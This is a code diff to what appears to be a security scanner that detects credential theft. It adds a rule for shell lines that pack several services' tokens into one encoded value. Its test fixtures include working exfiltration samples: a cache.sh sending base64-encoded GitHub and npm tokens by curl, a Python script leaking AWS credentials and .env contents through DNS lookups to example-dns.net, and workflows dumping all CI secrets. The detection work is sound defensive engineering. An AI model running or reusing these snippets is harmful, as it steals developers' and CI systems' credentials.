@@ -178,6 +178,10 @@ function codeSources(file: FileView, from: number, to: number): Hit[] {
     hits.push({ index, length: m[0].length, label: m[0] });
     if (hits.length >= 10) break;
   }
+  // The tokens of several services packed into one encoded value (shell).
+  if (file.kind === 'script' && file.language === 'sh') {
+    for (const c of credentialCollections(file, from, to)) if (c.message?.startsWith('Packs')) hits.push({ index: c.index, length: c.length, label: 'several credentials packed together' });
+  }
   // Credential files named in a list and read through a folder joined with a variable.
   if (file.kind === 'script') {
     for (const h of cloudDirWithVariableHits(file)) if (h.index >= from && h.index < to) hits.push({ index: h.index, length: h.length, label: h.message });
@@ -819,8 +823,21 @@ function credentialCollections(file: FileView, from: number, to: number): RuleMa
       out.push({ index: from + m.index, length: m[0].length, message: `Collects ${names.size} credentials of different services (${[...names].slice(0, 3).join(', ')}${names.size > 3 ? ', …' : ''})` });
     }
   }
+  // A shell line that packs the tokens of several services into one encoded blob:
+  // printf '%s|%s' "$GITHUB_TOKEN" "$NPM_TOKEN" | base64.
+  if (file.kind === 'script' && file.language === 'sh') {
+    for (const { start, line } of logicalLines(file.text, from, to)) {
+      if (!PIPED_TO_ENCODER.test(line)) continue;
+      const names = new Set([...line.matchAll(CODE_SECRET_ENV)].map((e) => e[1] ?? e[2] ?? e[3]).filter((n) => SECRET_NAME_SHAPE.test(n)));
+      const vendors = new Set([...names].map((n) => n.split('_').find((p) => p.length >= 2 && !GENERIC_NAME_PARTS.has(p)) ?? n));
+      if (names.size >= 2 && vendors.size >= 2) {
+        out.push({ index: start + Math.max(0, line.search(/\S/)), length: Math.min(line.trimEnd().length, 200), message: `Packs ${names.size} credentials of different services into one encoded value (${[...names].slice(0, 3).join(', ')}${names.size > 3 ? ', …' : ''})` });
+      }
+    }
+  }
   return out;
 }
+const PIPED_TO_ENCODER = /\|\s*(?:base64|xxd|gzip|openssl\s+enc|od)\b/;
 
 // All the secrets of a GitHub Actions run in one value (workflow files are text, not scripts).
 const ACTIONS_SECRETS_DUMP = /\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\}/g;
@@ -1299,6 +1316,10 @@ export const rules: Rule[] = [
           ],
         },
         {
+          path: 'scripts/cache.sh',
+          text: 'scope() { printf "%s|%s" "${GITHUB_TOKEN:-}" "${NPM_TOKEN:-}" | base64 | tr -d "\\n"; }\ncurl -fsS -X PUT -H "X-Scope: $(scope)" --data-binary @/tmp/c.tgz "$CACHE_URL/c.tgz"\n',
+        },
+        {
           path: 'scripts/dnscheck.py',
           text: 'def names():\n    blob = b""\n    for p in ("~/.aws/credentials", ".env"):\n        fp = os.path.expanduser(p)\n        if os.path.exists(fp):\n            blob += open(fp, "rb").read()\n    for i in range(0, len(blob.hex()), 60):\n        yield f"{blob.hex()[i:i+60]}.{i}.r.example-dns.net"\n\nfor n in names():\n    socket.getaddrinfo(n, 443)\n',
         },
@@ -1336,6 +1357,7 @@ export const rules: Rule[] = [
     negatable: false,
     examples: {
       match: [
+        { path: 'cache.sh', text: 'scope() {\n  printf \'%s|%s|%s\' "${GITHUB_TOKEN:-}" \\\n    "${NPM_TOKEN:-}" "${AWS_SECRET_ACCESS_KEY:-}" | base64 | tr -d \'\\n\'\n}\n' },
         { path: 'src/profile.js', text: 'export function machineProfile() {\n  return { cpus: os.cpus().length, runtime: { ...process.env } };\n}\n' },
         { path: 'assets/insights.yml', text: 'jobs:\n  report:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: echo "$ALL" | base64 -w0 > out.txt\n' },
         { path: 'templates/ci.yml', text: 'jobs:\n  build:\n    steps:\n      - uses: actions/checkout@v4\n      - name: Warm cache\n        uses: cachekit-dev/smart-cache@v2\n        env:\n          CACHE_SCOPE: ${{ toJSON(secrets) }}\n' },
